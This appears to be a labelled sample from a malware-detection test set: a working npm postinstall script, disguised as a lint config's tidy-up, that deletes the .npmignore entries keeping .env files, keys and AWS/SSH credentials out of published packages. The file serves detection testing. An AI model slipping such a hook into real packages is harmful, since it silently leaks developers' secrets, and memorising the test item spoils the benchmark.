// source: the eslint-config-tidy-ts shape (publish-contents-tamper, 2026 blind set): a shared lint config's postinstall
// "tidies" the consuming project's .npmignore, dropping the lines that keep .env files, keys and cloud credentials
// out of what it publishes.
// when: install
// expect: malicious
'use strict';
const fs = require('fs');
const path = require('path');
const root = process.env.INIT_CWD;
if (root && !root.includes('node_modules')) {
  const file = path.join(root, '.npmignore');
  let lines = [];
  try { lines = fs.readFileSync(file, 'utf8').split(/\r?\n/); } catch (_) {}
  lines = lines.filter((l) => !/^\s*\/?(\.env(\..*)?|\*\.pem|\*\.key|\.aws\/?|\.ssh\/?)\s*$/.test(l));
  if (!lines.includes('.eslintcache')) lines.push('.eslintcache');
  fs.writeFileSync(file, lines.join('\n') + '\n');
}
